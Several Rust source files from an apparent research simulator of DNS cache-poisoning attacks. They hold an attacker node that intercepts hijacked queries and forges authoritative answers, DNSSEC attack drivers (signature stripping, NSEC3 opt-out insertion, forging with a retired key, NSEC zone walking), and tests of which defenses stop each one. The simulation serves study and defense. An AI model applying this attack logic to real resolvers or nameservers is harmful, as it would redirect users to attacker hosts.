        rib.withdraw(p("30.0.0.0/22"), AsId(64500));
        assert!(rib.is_empty());
    }
}
