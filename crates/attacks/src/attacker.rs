//! The attacker host.
//!
//! The paper's threat model (Section 1, "Off-path attacks") is the weakest
//! realistic network attacker: a host in some AS that does **not** enforce
//! egress filtering, so it can emit packets with spoofed source addresses,
//! but that does not see any traffic between the victim resolver and the
//! genuine nameserver (unless it first reroutes that traffic with a BGP
//! hijack). [`AttackerNode`] is exactly that host: it records everything that
//! is delivered *to* it (intercepted queries under HijackDNS, ICMP responses
//! to its SadDNS verification probes, responses to its own reconnaissance
//! queries) and the attack drivers in this crate inject crafted packets from
//! it into the simulation.

use dns::prelude::*;
use netsim::icmp::Unreachable;
use netsim::prelude::*;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// One ICMP error observed by the attacker.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObservedIcmp {
    /// When it arrived.
    pub at: SimTime,
    /// Who sent it.
    pub from: Ipv4Addr,
    /// The unreachable condition reported.
    pub kind: Unreachable,
    /// Ports quoted from the offending datagram, if it quoted UDP.
    pub quoted_ports: Option<(u16, u16)>,
}

/// One UDP datagram observed by the attacker (with its IP-level metadata —
/// the IPID matters for FragDNS reconnaissance).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObservedUdp {
    /// When it arrived.
    pub at: SimTime,
    /// IP identification of the (last) packet that carried it.
    pub ip_identification: u16,
    /// The datagram itself.
    pub datagram: UdpDatagram,
}

/// The attacker's machine.
pub struct AttackerNode {
    stack: HostStack,
    /// The TCP socket used to terminate hijacked DNS-over-TCP connections
    /// as if the attacker were the nameserver (local address spoofed to
    /// whatever the victim dialled).
    tcp_intercept: TcpSocket,
    tcp_rx: HashMap<Endpoint, TcpFrameBuffer>,
    /// ICMP errors delivered to the attacker.
    pub icmp_observed: Vec<ObservedIcmp>,
    /// UDP datagrams delivered to the attacker (intercepted queries,
    /// responses to reconnaissance queries, ...).
    pub udp_observed: Vec<ObservedUdp>,
    /// Raw IPv4 packets delivered to the attacker, in arrival order.
    pub raw_observed: Vec<(SimTime, Ipv4Packet)>,
    /// Whether the attacker should answer DNS queries that reach it (used
    /// when it impersonates a nameserver after a hijack) — over UDP and,
    /// for hijacked DNS-over-TCP resolvers, by completing the handshake as
    /// the nameserver. Answers map every query name to `malicious_a`.
    pub answer_dns_queries: bool,
    /// When impersonating, answer with an empty authoritative NOERROR
    /// response instead of planting a record (the erasure forgery).
    pub forge_empty_answers: bool,
    /// DNS queries served over hijacked TCP connections.
    pub tcp_queries_answered: u64,
    /// The address the attacker wants victims to end up at.
    pub malicious_a: Ipv4Addr,
}

impl AttackerNode {
    /// Creates an attacker at `addr` whose malicious records point at itself.
    pub fn new(addr: Ipv4Addr) -> Self {
        let mut stack = HostStack::with_defaults(vec![addr]);
        // The attacker listens on a handful of ports it uses for its own
        // probes and for impersonated services.
        stack.open_port(53);
        stack.open_port(4444);
        AttackerNode {
            stack,
            tcp_intercept: TcpSocket::listener(53),
            tcp_rx: HashMap::new(),
            icmp_observed: Vec::new(),
            udp_observed: Vec::new(),
            raw_observed: Vec::new(),
            answer_dns_queries: false,
            forge_empty_answers: false,
            tcp_queries_answered: 0,
            malicious_a: addr,
        }
    }

    /// The attacker's own address.
    pub fn addr(&self) -> Ipv4Addr {
        self.stack.primary_addr()
    }

    /// ICMP errors received strictly after `t`.
    pub fn icmp_since(&self, t: SimTime) -> Vec<&ObservedIcmp> {
        self.icmp_observed.iter().filter(|o| o.at > t).collect()
    }

    /// Whether a port-unreachable arrived after `t` — the SadDNS verification
    /// probe outcome.
    pub fn port_unreachable_since(&self, t: SimTime) -> bool {
        self.icmp_since(t).iter().any(|o| o.kind == Unreachable::Port)
    }

    /// DNS queries (not responses) intercepted by the attacker, e.g. after a
    /// BGP hijack of the nameserver's prefix.
    pub fn intercepted_queries(&self) -> Vec<(&ObservedUdp, Message)> {
        self.udp_observed
            .iter()
            .filter_map(|o| Message::decode(&o.datagram.payload).ok().map(|m| (o, m)))
            .filter(|(_, m)| !m.header.is_response)
            .collect()
    }

    /// DNS responses received by the attacker (reconnaissance answers).
    pub fn received_responses(&self) -> Vec<(&ObservedUdp, Message)> {
        self.udp_observed
            .iter()
            .filter_map(|o| Message::decode(&o.datagram.payload).ok().map(|m| (o, m)))
            .filter(|(_, m)| m.header.is_response)
            .collect()
    }

    /// Crafts the impersonated answer for one query intercepted over a
    /// hijacked TCP connection and sends it back on that connection, with
    /// the source address spoofed to the nameserver the victim dialled.
    fn serve_hijacked_tcp(&mut self, local: Endpoint, peer: Endpoint, frame: &[u8], ctx: &mut Ctx<'_>) {
        let Ok(query) = Message::decode(frame) else { return };
        if query.header.is_response {
            return;
        }
        let Some(q) = query.question().cloned() else { return };
        let mut resp = Message::response_for(&query);
        resp.header.authoritative = true;
        if !self.forge_empty_answers {
            resp.answers.push(ResourceRecord::new(q.name, 300, RData::A(self.malicious_a)));
        }
        self.tcp_queries_answered += 1;
        let framed = frame_tcp(&resp.encode());
        let intercept = &mut self.tcp_intercept;
        with_io(&mut self.stack, ctx, |io| intercept.send_from(io, local, peer, &framed));
    }

    /// Terminates hijacked TCP traffic (packets whose destination the
    /// attacker does not own): completes handshakes as the dialled host and,
    /// when impersonation is on, answers the DNS queries inside.
    fn handle_hijacked_tcp(&mut self, pkt: &Ipv4Packet, ctx: &mut Ctx<'_>) {
        let Ok(seg) = TcpSegment::from_packet(pkt) else { return };
        let intercept = &mut self.tcp_intercept;
        let sock_events = with_io(&mut self.stack, ctx, |io| intercept.handle_segment(io, &seg));
        for se in sock_events {
            match se {
                SocketEvent::Data { peer, local, payload } => {
                    for frame in TcpFrameBuffer::push_and_drain(&mut self.tcp_rx, peer, &payload) {
                        self.serve_hijacked_tcp(local, peer, &frame, ctx);
                    }
                }
                SocketEvent::PeerClosed { peer, .. } => {
                    // Finish the teardown like a real server would, so the
                    // victim's connection does not sit in FIN_WAIT_2 for the
                    // rest of the simulation.
                    self.tcp_rx.remove(&peer);
                    let intercept = &mut self.tcp_intercept;
                    with_io(&mut self.stack, ctx, |io| intercept.close_peer(io, peer));
                }
                SocketEvent::Reset { peer, .. } => {
                    self.tcp_rx.remove(&peer);
                }
                SocketEvent::Connected { .. } => {}
            }
        }
    }

    /// The IP identification values of packets received from `src`, in
    /// arrival order — the FragDNS IPID sampling probe.
    pub fn observed_ipids_from(&self, src: Ipv4Addr) -> Vec<u16> {
        self.raw_observed
            .iter()
            .filter(|(_, p)| p.header.src == src && p.header.protocol == Protocol::Udp)
            .map(|(_, p)| p.header.identification)
            .collect()
    }
}

impl Node for AttackerNode {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
        let now = ctx.now();
        self.raw_observed.push((now, pkt.clone()));
        // Packets not addressed to the attacker only ever reach it because a
        // BGP hijack redirected them (HijackDNS interception). Record them
        // directly — the attacker is effectively promiscuous for hijacked
        // traffic — and, when impersonation is on, terminate hijacked TCP
        // connections as the host the victim dialled.
        if !self.stack.owns(pkt.header.dst) {
            if let Ok(dgram) = UdpDatagram::from_packet(&pkt) {
                self.udp_observed.push(ObservedUdp {
                    at: now,
                    ip_identification: pkt.header.identification,
                    datagram: dgram,
                });
            } else if pkt.header.protocol == Protocol::Tcp && self.answer_dns_queries {
                self.handle_hijacked_tcp(&pkt, ctx);
            }
            return;
        }
        let output = {
            let rng = ctx.rng();
            self.stack.handle_packet(&pkt, now, rng)
        };
        // The attacker never sends ICMP errors back (it stays quiet), so the
        // stack's replies are suppressed except echo replies (it answers
        // pings to look like an ordinary host).
        for reply in output.replies {
            if let Ok(IcmpMessage::EchoReply { .. }) = IcmpMessage::decode(&reply.payload) {
                ctx.send(reply);
            }
        }
        for event in output.events {
            match event {
                StackEvent::Udp(dgram) => {
                    self.udp_observed.push(ObservedUdp {
                        at: now,
                        ip_identification: pkt.header.identification,
                        datagram: dgram.clone(),
                    });
                    if self.answer_dns_queries && dgram.dst_port == 53 {
                        if let Ok(query) = Message::decode(&dgram.payload) {
                            if !query.header.is_response {
                                if let Some(q) = query.question().cloned() {
                                    let mut resp = Message::response_for(&query);
                                    resp.header.authoritative = true;
                                    resp.answers.push(ResourceRecord::new(q.name, 300, RData::A(self.malicious_a)));
                                    let pkts = self.stack.send_udp(
                                        UdpDatagram::new(pkt.header.dst, dgram.src, 53, dgram.src_port, resp.encode()),
                                        now,
                                        ctx.rng(),
                                    );
                                    for p in pkts {
                                        ctx.send(p);
                                    }
                                }
                            }
                        }
                    }
                }
                StackEvent::IcmpError { from, kind, quoted_ports } => {
                    self.icmp_observed.push(ObservedIcmp { at: now, from, kind, quoted_ports });
                }
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ATTACKER: Ipv4Addr = Ipv4Addr::new(6, 6, 6, 6);
    const OTHER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 9);

    #[test]
    fn records_udp_and_icmp() {
        let mut sim = Simulator::new(1);
        let a = sim.add_node("attacker", vec![ATTACKER], AttackerNode::new(ATTACKER));
        let o = sim.add_node("other", vec![OTHER], EchoNode::default());
        sim.connect(a, o, Link::default());
        // A DNS query reaches the attacker's port 53.
        let q = Message::query(5, "vict.im".parse().unwrap(), RecordType::A);
        sim.inject(o, UdpDatagram::new(OTHER, ATTACKER, 1234, 53, q.encode()).into_packet(77, 64));
        // An ICMP port unreachable reaches the attacker.
        let probe = UdpDatagram::new(ATTACKER, OTHER, 4444, 9, vec![]).into_packet(3, 64);
        sim.inject(o, IcmpMessage::port_unreachable(&probe).into_packet(OTHER, ATTACKER, 4, 64));
        sim.run();
        let attacker = sim.node_ref::<AttackerNode>(a).unwrap();
        assert_eq!(attacker.intercepted_queries().len(), 1);
        assert_eq!(attacker.udp_observed[0].ip_identification, 77);
        assert!(attacker.port_unreachable_since(SimTime::ZERO));
        assert_eq!(attacker.icmp_observed.len(), 1);
    }

    #[test]
    fn optionally_impersonates_a_nameserver() {
        let mut sim = Simulator::new(2);
        let mut node = AttackerNode::new(ATTACKER);
        node.answer_dns_queries = true;
        let a = sim.add_node("attacker", vec![ATTACKER], node);
        let o = sim.add_node("victim", vec![OTHER], SinkNode::default());
        sim.connect(a, o, Link::default());
        let q = Message::query(9, "login.vict.im".parse().unwrap(), RecordType::A);
        sim.inject(o, UdpDatagram::new(OTHER, ATTACKER, 1234, 53, q.encode()).into_packet(1, 64));
        sim.run();
        // The victim got an answer pointing at the attacker.
        assert_eq!(sim.stats(o).udp_received, 1);
        let attacker = sim.node_ref::<AttackerNode>(a).unwrap();
        assert_eq!(attacker.intercepted_queries().len(), 1);
    }

    #[test]
    fn ipid_sampling() {
        let mut sim = Simulator::new(3);
        let a = sim.add_node("attacker", vec![ATTACKER], AttackerNode::new(ATTACKER));
        let o = sim.add_node("other", vec![OTHER], EchoNode::default());
        sim.connect(a, o, Link::default());
        for id in [100u16, 101, 102] {
            sim.inject(o, UdpDatagram::new(OTHER, ATTACKER, 53, 4444, vec![1]).into_packet(id, 64));
        }
        sim.run();
        let attacker = sim.node_ref::<AttackerNode>(a).unwrap();
        assert_eq!(attacker.observed_ipids_from(OTHER), vec![100, 101, 102]);
    }
}
