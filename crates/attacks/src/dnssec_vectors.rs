//! Attacks against DNSSEC deployments themselves (the rows of the DNSSEC
//! matrix).
//!
//! The classic methodologies of Section 3 forge *unsigned* data and are
//! stopped cold by a correctly anchored validator. These four vectors target
//! the deployment instead — the gaps between "the zone is signed" and "the
//! zone is safe":
//!
//! | Vector | Gap exploited |
//! | ------ | ------------- |
//! | [`DowngradeToInsecureAttack`] | signed zone without a DS in the parent: validation degrades to `Insecure` |
//! | [`Nsec3OptOutAbuseAttack`] | RFC 5155 opt-out spans cannot prove a forgery absent |
//! | [`RolloverForgeryAttack`] | a retired-but-published ZSK still verifies (RFC 6781 window) |
//! | [`ZoneWalkingAttack`] | NSEC `next` pointers enumerate the zone |
//!
//! All four assume the interception capability of HijackDNS where they need
//! to outrace the genuine nameserver — the matrix isolates the DNSSEC
//! dimension, not the off-path race. Key compromise in
//! [`RolloverForgeryAttack`] is a modelling convention: the driver clones
//! the pre-rollover ZSK out of the zone state, standing in for a key
//! compromised while it was active.

use crate::env::{QueryTrigger, VictimEnv, VictimEnvConfig};
use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
use crate::vectors::AttackVector;
use bgp::prelude::*;
use dns::dnssec::sign::sign_rrset_with_window;
use dns::dnssec::RolloverState;
use dns::prelude::*;
use netsim::prelude::*;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;

/// Installs a sub-prefix hijack of the nameserver, triggers the resolver's
/// query and waits for the interception. Returns the intercepted query (and
/// the announced prefix, still installed) or `None` on timeout.
fn intercept_query(
    sim: &mut Simulator,
    env: &VictimEnv,
    report: &mut AttackReport,
    name: &DomainName,
    qtype: RecordType,
) -> Option<(UdpDatagram, Message, Prefix)> {
    let prefix = Prefix::new(env.nameserver_addr, MAX_ACCEPTED_PREFIX_LEN);
    sim.set_route_override(prefix, env.attacker);
    env.trigger_query(sim, QueryTrigger::OpenResolver, name, qtype, 0x5d5d);
    report.queries_triggered += 1;
    report.iterations += 1;
    let deadline = sim.now() + Duration::from_secs(5);
    while sim.now() < deadline {
        if !sim.step() {
            break;
        }
        let hit = env
            .attacker(sim)
            .intercepted_queries()
            .into_iter()
            .find(|(_, q)| q.question().map(|qq| qq.name == *name) == Some(true))
            .map(|(obs, q)| (obs.datagram.clone(), q));
        if let Some((dgram, query)) = hit {
            return Some((dgram, query, prefix));
        }
    }
    sim.clear_route_override(prefix);
    None
}

/// Sends the spoofed response for an intercepted query (source spoofed to
/// the genuine nameserver), withdraws the announcement, and lets the dust
/// settle.
fn answer_intercepted(
    sim: &mut Simulator,
    env: &VictimEnv,
    query_dgram: &UdpDatagram,
    query_msg: &Message,
    answers: Vec<ResourceRecord>,
    authorities: Vec<ResourceRecord>,
    prefix: Prefix,
) {
    let mut response = Message::response_for(query_msg);
    response.header.authoritative = true;
    response.answers = answers;
    response.authorities = authorities;
    let spoofed = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, query_dgram.src_port, response.encode())
        .into_packet(0x6666, 64);
    sim.inject(env.attacker, spoofed);
    sim.clear_route_override(prefix);
    sim.run_for(Duration::from_secs(1));
}

/// Finalises a plant-a-record report: success iff the cache now maps the
/// target to the attacker, with the resolver's DNSSEC counter deciding the
/// failure attribution.
fn settle_plant_report(
    sim: &Simulator,
    env: &VictimEnv,
    mut report: AttackReport,
    target: &DomainName,
    start: SimTime,
    traffic_before: &TrafficStats,
    rejected_reason: &str,
) -> AttackReport {
    report.duration = sim.now().duration_since(start);
    report.record_traffic(traffic_before, sim.stats(env.attacker));
    report.success = env.poisoned(sim, target, report.malicious_addr);
    if !report.success {
        let reason = if env.resolver(sim).stats.rejected_dnssec > 0 {
            rejected_reason.to_string()
        } else {
            "forged response not accepted".to_string()
        };
        report.failure = Some(FailureReason::RejectedByResolver(reason));
    }
    report
}

/// Sends one reconnaissance query straight from the attacker to the genuine
/// nameserver and returns the matching response, if any arrives.
fn direct_ns_query(
    sim: &mut Simulator,
    env: &VictimEnv,
    name: &DomainName,
    qtype: RecordType,
    txid: u16,
) -> Option<Message> {
    let query = Message::query(txid, name.clone(), qtype);
    let pkt = UdpDatagram::new(env.attacker_addr, env.nameserver_addr, 4444, well_known_ports::DNS, query.encode())
        .into_packet(txid, 64);
    sim.inject(env.attacker, pkt);
    sim.run_for(Duration::from_millis(300));
    env.attacker(sim).received_responses().into_iter().find(|(_, m)| m.header.id == txid).map(|(_, m)| m)
}

/// Serve an unsigned forgery and count on the validator having no chain of
/// trust: a signed-but-unanchored zone (no DS in the parent) validates as
/// `Insecure`, so the resolver accepts exactly what the unsigned baseline
/// accepts. Against an anchored validator the same response is `Bogus` —
/// no DNSKEY proof at all — and the vector is blocked.
#[derive(Debug, Clone)]
pub struct DowngradeToInsecureAttack {
    /// The address to plant.
    pub malicious_addr: Ipv4Addr,
    /// The name to poison.
    pub target_name: DomainName,
}

impl DowngradeToInsecureAttack {
    /// The reference configuration: plant `www.vict.im` at the attacker.
    pub fn new(malicious_addr: Ipv4Addr) -> Self {
        DowngradeToInsecureAttack { malicious_addr, target_name: "www.vict.im".parse().expect("valid name") }
    }
}

impl AttackVector for DowngradeToInsecureAttack {
    fn method(&self) -> PoisonMethod {
        PoisonMethod::DowngradeToInsecure
    }

    fn prepare_env(&self, _cfg: &mut VictimEnvConfig) {}

    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        let mut report = AttackReport::new(PoisonMethod::DowngradeToInsecure, &self.target_name, self.malicious_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();
        if env.rov_enforced {
            return report.fail(FailureReason::PreconditionNotMet(
                "route origin validation filters the hijacked announcement".into(),
            ));
        }
        let Some((dgram, query, prefix)) = intercept_query(sim, env, &mut report, &self.target_name, RecordType::A)
        else {
            return report.fail(FailureReason::BudgetExhausted);
        };
        // The whole attack is the *absence* of DNSSEC material: a bare
        // unsigned answer, exactly what a pre-DNSSEC forger would send.
        let answers = vec![ResourceRecord::new(self.target_name.clone(), 3600, RData::A(self.malicious_addr))];
        answer_intercepted(sim, env, &dgram, &query, answers, Vec::new(), prefix);
        report.notes.push("served a signature-stripped response".into());
        settle_plant_report(
            sim,
            env,
            report,
            &self.target_name,
            start,
            &traffic_before,
            "trust-anchored validator refused the signature-stripped response",
        )
    }
}

/// Replay a genuine signed NSEC3 opt-out span beside an unsigned forgery.
/// RFC 5155 §6: an opt-out span cannot prove the names it covers do not
/// exist, so a validator must admit unsigned data under it as `Insecure` —
/// which is exactly the hole this vector drives a forged host through.
/// Strict NSEC3 (no opt-out) and plain NSEC both close it: the replayed
/// span then *proves* the forgery bogus.
#[derive(Debug, Clone)]
pub struct Nsec3OptOutAbuseAttack {
    /// The address to plant.
    pub malicious_addr: Ipv4Addr,
    /// The name to insert under the opt-out span. Deliberately absent from
    /// the genuine zone — opt-out abuse inserts names, it does not replace
    /// signed ones.
    pub target_name: DomainName,
}

impl Nsec3OptOutAbuseAttack {
    /// The reference configuration: insert `phish.vict.im`.
    pub fn new(malicious_addr: Ipv4Addr) -> Self {
        Nsec3OptOutAbuseAttack { malicious_addr, target_name: "phish.vict.im".parse().expect("valid name") }
    }
}

impl AttackVector for Nsec3OptOutAbuseAttack {
    fn method(&self) -> PoisonMethod {
        PoisonMethod::Nsec3OptOutAbuse
    }

    fn prepare_env(&self, _cfg: &mut VictimEnvConfig) {}

    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        let mut report = AttackReport::new(PoisonMethod::Nsec3OptOutAbuse, &self.target_name, self.malicious_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();
        if env.rov_enforced {
            return report.fail(FailureReason::PreconditionNotMet(
                "route origin validation filters the hijacked announcement".into(),
            ));
        }

        // Reconnaissance: ask the genuine nameserver for the absent name.
        // The NXDOMAIN comes back with the zone's real denial proof (and
        // DNSKEY RRset) — the material this attack replays verbatim.
        let Some(recon) = direct_ns_query(sim, env, &self.target_name, RecordType::A, 0x7e57) else {
            return report.fail(FailureReason::PreconditionNotMet(
                "no denial proof harvested from the authoritative nameserver".into(),
            ));
        };
        let replayed: Vec<ResourceRecord> = recon.authorities.iter().chain(recon.additionals.iter()).cloned().collect();
        report.notes.push(format!("replaying {} genuine authority/DNSKEY records", replayed.len()));

        let Some((dgram, query, prefix)) = intercept_query(sim, env, &mut report, &self.target_name, RecordType::A)
        else {
            return report.fail(FailureReason::BudgetExhausted);
        };
        // Forged unsigned A + the replayed (genuinely signed) denial chain
        // and key material around it.
        let answers = vec![ResourceRecord::new(self.target_name.clone(), 3600, RData::A(self.malicious_addr))];
        answer_intercepted(sim, env, &dgram, &query, answers, replayed, prefix);
        settle_plant_report(
            sim,
            env,
            report,
            &self.target_name,
            start,
            &traffic_before,
            "the denial chain proves the forged name absent (no opt-out span admits it)",
        )
    }
}

/// Sign a forgery with the ZSK that was active *before* a rollover. Under
/// RFC 6781's lenient timeline the retired key lingers in the DNSKEY RRset
/// through its retirement window, so signatures made with it still chain to
/// the trust anchor; a strict deployment (`retire_immediately`) drops the
/// key in the same step and the signature dangles.
#[derive(Debug, Clone)]
pub struct RolloverForgeryAttack {
    /// The address to plant.
    pub malicious_addr: Ipv4Addr,
    /// The name to poison.
    pub target_name: DomainName,
}

impl RolloverForgeryAttack {
    /// The reference configuration: re-sign `www.vict.im` with the old key.
    pub fn new(malicious_addr: Ipv4Addr) -> Self {
        RolloverForgeryAttack { malicious_addr, target_name: "www.vict.im".parse().expect("valid name") }
    }
}

impl AttackVector for RolloverForgeryAttack {
    fn method(&self) -> PoisonMethod {
        PoisonMethod::RolloverForgery
    }

    fn prepare_env(&self, _cfg: &mut VictimEnvConfig) {}

    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        let mut report = AttackReport::new(PoisonMethod::RolloverForgery, &self.target_name, self.malicious_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();
        if env.rov_enforced {
            return report.fail(FailureReason::PreconditionNotMet(
                "route origin validation filters the hijacked announcement".into(),
            ));
        }

        // Drive the zone through a ZSK rollover, capturing the outgoing
        // active key first — the stand-in for a key the attacker compromised
        // while it was signing.
        let now = sim.now();
        let (compromised, dnskey_rrset, origin) = {
            let Some(ns) = sim.node_mut::<Nameserver>(env.nameserver) else {
                return report.fail(FailureReason::PreconditionNotMet("no authoritative nameserver".into()));
            };
            let Some(zone) = ns.zones_mut().first_mut() else {
                return report.fail(FailureReason::PreconditionNotMet("nameserver serves no zone".into()));
            };
            if !zone.is_signed() {
                return report.fail(FailureReason::PreconditionNotMet("the target zone is not signed".into()));
            }
            let compromised = zone.signing().expect("signed").keys.active_zsk().clone();
            zone.start_key_rollover(now);
            zone.complete_key_rollover(now);
            let still_published = zone.signing().expect("signed").keys.zsk_in_state(RolloverState::Retired).is_some();
            report.notes.push(if still_published {
                "compromised ZSK retired but still published (lenient rollover)".into()
            } else {
                "compromised ZSK dropped from the DNSKEY RRset (strict rollover)".into()
            });
            (compromised, zone.dnskey_records(), zone.origin.clone())
        };

        // Sign the forgery with the compromised key and serve it alongside
        // the zone's current (genuine, KSK-signed) DNSKEY RRset.
        let rrset = vec![ResourceRecord::new(self.target_name.clone(), 3600, RData::A(self.malicious_addr))];
        let now_secs = dns::dnssec::sim_secs(sim.now());
        let forged_sig = sign_rrset_with_window(&compromised, &rrset, &origin, 0, now_secs + 3600);
        let mut answers = rrset;
        answers.push(forged_sig);

        let Some((dgram, query, prefix)) = intercept_query(sim, env, &mut report, &self.target_name, RecordType::A)
        else {
            return report.fail(FailureReason::BudgetExhausted);
        };
        answer_intercepted(sim, env, &dgram, &query, answers, dnskey_rrset, prefix);
        settle_plant_report(
            sim,
            env,
            report,
            &self.target_name,
            start,
            &traffic_before,
            "retired key no longer published; the forged signature dangles",
        )
    }
}

/// Enumerate the zone by walking the NSEC chain: every authenticated denial
/// hands the attacker two real owner names, and probing just past each
/// `next` pointer yields the following span. A confidentiality attack on
/// the denial mechanism itself — NSEC3's hashed owners (any flavour) stop
/// the walk at the first probe.
#[derive(Debug, Clone)]
pub struct ZoneWalkingAttack {
    /// Probe budget (each probe is one direct query to the nameserver).
    pub max_probes: usize,
    /// Number of distinct non-apex names that counts as a successful
    /// enumeration.
    pub success_threshold: usize,
}

impl ZoneWalkingAttack {
    /// The reference configuration: 24 probes, 4 names proves the walk.
    pub fn new() -> Self {
        ZoneWalkingAttack { max_probes: 24, success_threshold: 4 }
    }
}

impl Default for ZoneWalkingAttack {
    fn default() -> Self {
        Self::new()
    }
}

impl AttackVector for ZoneWalkingAttack {
    fn method(&self) -> PoisonMethod {
        PoisonMethod::ZoneWalking
    }

    fn prepare_env(&self, _cfg: &mut VictimEnvConfig) {}

    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        let apex = env.target_name.clone();
        let mut report = AttackReport::new(PoisonMethod::ZoneWalking, &apex, env.attacker_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();

        let mut enumerated: BTreeSet<String> = BTreeSet::new();
        let mut probe = apex.prepend("0").expect("valid probe name");
        let mut saw_nsec3 = false;
        for i in 0..self.max_probes {
            let txid = 0x4a00 + i as u16;
            report.iterations += 1;
            let Some(resp) = direct_ns_query(sim, env, &probe, RecordType::A, txid) else { break };
            saw_nsec3 |= resp.authorities.iter().any(|rr| rr.rtype() == RecordType::NSEC3);
            // The span covering (or owning) the probe links two real names.
            let span = resp.authorities.iter().find_map(|rr| match &rr.rdata {
                RData::Nsec { next, .. } => Some((rr.name.clone(), next.clone())),
                _ => None,
            });
            let Some((owner, next)) = span else { break };
            for name in [&owner, &next] {
                if name.to_lowercase() != apex.to_lowercase() {
                    enumerated.insert(name.to_lowercase().to_string());
                }
            }
            if next.to_lowercase() == apex.to_lowercase() {
                break; // wrapped around: the whole chain is harvested
            }
            probe = next.prepend("0").expect("valid probe name");
        }

        report.duration = sim.now().duration_since(start);
        report.record_traffic(&traffic_before, sim.stats(env.attacker));
        report.success = enumerated.len() >= self.success_threshold;
        if report.success {
            report.notes.push(format!("enumerated {} names by following NSEC next pointers", enumerated.len()));
        } else if saw_nsec3 {
            report.failure =
                Some(FailureReason::PreconditionNotMet("NSEC3 hashes the chain; next owners are not walkable".into()));
        } else {
            report.failure =
                Some(FailureReason::PreconditionNotMet("no walkable denial chain in referral responses".into()));
        }
        report
    }
}

/// The reference DowngradeToInsecure vector.
pub fn downgrade() -> DowngradeToInsecureAttack {
    DowngradeToInsecureAttack::new(crate::env::addrs::ATTACKER)
}

/// The reference Nsec3OptOutAbuse vector.
pub fn optout_abuse() -> Nsec3OptOutAbuseAttack {
    Nsec3OptOutAbuseAttack::new(crate::env::addrs::ATTACKER)
}

/// The reference RolloverForgery vector.
pub fn rollover_forgery() -> RolloverForgeryAttack {
    RolloverForgeryAttack::new(crate::env::addrs::ATTACKER)
}

/// The reference ZoneWalking vector.
pub fn zone_walking() -> ZoneWalkingAttack {
    ZoneWalkingAttack::new()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::ZoneSecurity;

    fn dnssec_env(security: ZoneSecurity, seed: u64) -> (Simulator, VictimEnv) {
        let mut cfg = VictimEnvConfig { seed, ..Default::default() };
        cfg.zone_security = security;
        cfg.resolver.delegations.clear();
        cfg.resolver = cfg
            .resolver
            .clone()
            .with_delegation("vict.im", vec![crate::env::addrs::NAMESERVER], true)
            .with_dnssec_validation();
        cfg.build()
    }

    #[test]
    fn downgrade_wins_only_without_a_trust_anchor() {
        let (mut sim, env) = dnssec_env(ZoneSecurity::signed_no_ds(), 51);
        let report = downgrade().execute(&mut sim, &env);
        assert!(report.success, "unanchored validation must accept the stripped forgery: {report:?}");

        let (mut sim, env) = dnssec_env(ZoneSecurity::signed_nsec(), 51);
        let report = downgrade().execute(&mut sim, &env);
        assert!(!report.success, "anchored validation must reject it");
        assert!(matches!(report.failure, Some(FailureReason::RejectedByResolver(_))));
    }

    #[test]
    fn optout_abuse_inserts_a_name_only_under_an_optout_chain() {
        let (mut sim, env) = dnssec_env(ZoneSecurity::signed_nsec3_opt_out(), 52);
        let report = optout_abuse().execute(&mut sim, &env);
        assert!(report.success, "opt-out spans must admit the unsigned insertion: {report:?}");

        for strict in [ZoneSecurity::signed_nsec(), ZoneSecurity::signed_strict()] {
            let (mut sim, env) = dnssec_env(strict, 52);
            let report = optout_abuse().execute(&mut sim, &env);
            assert!(!report.success, "a complete denial chain must prove the insertion bogus");
        }
    }

    #[test]
    fn rollover_forgery_needs_the_retirement_window() {
        let (mut sim, env) = dnssec_env(ZoneSecurity::signed_nsec(), 53);
        let report = rollover_forgery().execute(&mut sim, &env);
        assert!(report.success, "the retired-but-published key must still verify: {report:?}");

        let (mut sim, env) = dnssec_env(ZoneSecurity::signed_strict(), 53);
        let report = rollover_forgery().execute(&mut sim, &env);
        assert!(!report.success, "strict rollover drops the key and the signature dangles");
        assert!(matches!(report.failure, Some(FailureReason::RejectedByResolver(_))));
    }

    #[test]
    fn zone_walking_enumerates_nsec_but_not_nsec3() {
        let (mut sim, env) = dnssec_env(ZoneSecurity::signed_nsec(), 54);
        let report = zone_walking().execute(&mut sim, &env);
        assert!(report.success, "NSEC chains must be walkable: {report:?}");

        let (mut sim, env) = dnssec_env(ZoneSecurity::signed_strict(), 54);
        let report = zone_walking().execute(&mut sim, &env);
        assert!(!report.success, "hashed owners must stop the walk");
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }
}
