//! HijackDNS — DNS cache poisoning via BGP prefix interception (Section 3.1).
//!
//! The attacker announces the victim nameserver's prefix (or a more specific
//! sub-prefix), intercepts the resolver's query, copies the challenge values
//! (source port, TXID and — because it sees the query — the exact 0x20
//! casing) into a spoofed response carrying malicious records, and withdraws
//! the announcement. Control-plane feasibility (is the announcement accepted
//! anywhere useful? does ROV filter it?) is decided with the `bgp` crate and
//! passed in; this driver executes the data-plane part against the packet
//! simulator.

use crate::env::{QueryTrigger, VictimEnv};
use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
use bgp::prelude::*;
use dns::prelude::*;
use netsim::prelude::*;
use std::net::Ipv4Addr;

/// Which flavour of hijack the attacker uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HijackKind {
    /// Announce a more-specific prefix: captures traffic from everywhere, but
    /// only works when the victim announcement is shorter than /24.
    SubPrefix,
    /// Announce the same prefix: captures traffic only from ASes that prefer
    /// the attacker's announcement; `on_path` says whether the victim
